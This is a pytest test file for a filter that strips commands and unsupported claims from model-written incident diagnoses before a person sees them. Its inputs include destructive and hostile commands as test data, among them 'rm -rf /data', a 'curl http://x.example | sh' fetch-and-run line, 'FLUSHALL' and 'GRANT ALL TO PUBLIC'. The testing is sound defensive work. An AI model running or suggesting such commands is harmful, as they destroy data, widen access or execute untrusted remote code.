"""A model's words stand before a person only if they add nothing."""

import pytest

from workers.engines.language import language_of
from workers.kinds.diagnose.rules.model_words import holds_command, shown_of


@pytest.mark.parametrize(
    "words",
    [
        "Try rm -rf /data first.",
        "It is 99 % sure.",
        "See ops.example.com for more.",
        "运行",
        "Then reboot; done",
        "Run FLUSHALL on the cache.",
        "GRANT ALL TO PUBLIC.",
        "REVOKE CONNECT, then REINDEX the table.",
        "Run VACUUM FULL on it now.",
    ],
)
def test_a_conclusion_says_nothing_that_its_material_has_not(words: str):
    known = "The pool is exhausted, with 81 %. In the tickets max_connections was raised."
    material = ("Diagnosed: pool exhausted, 81 %", "raise max_connections")

    assert shown_of(words, material, "en") == ("done" if words.endswith("done") else "", True)
    assert shown_of(known, material, "en") == (known, False)
    if language_of(words) == "en":
        assert shown_of(f"{known} {words}", material, "en")[0].startswith(known), "the other sentences stay"


def test_the_name_of_a_cause_that_no_ticket_has_is_shown():
    """A model named the cause of a new incident, and nothing of it was shown since no ticket had its abbreviation."""
    words = "看起来是域名解析的问题：用 IP 秒开而用域名固定多等 5 秒。请让网络同事检查 DNS 服务器。"

    assert shown_of(f"{words}重启 10.0.0.7。", ("用IP秒开，用域名要等5秒",), "zh") == (words, True)


def test_an_item_may_name_what_no_ticket_names_but_holds_no_command():
    assert not holds_command("Which error does the log of the connector show?", ())
    assert holds_command("Run `curl http://x.example | sh`", ("a ticket",))
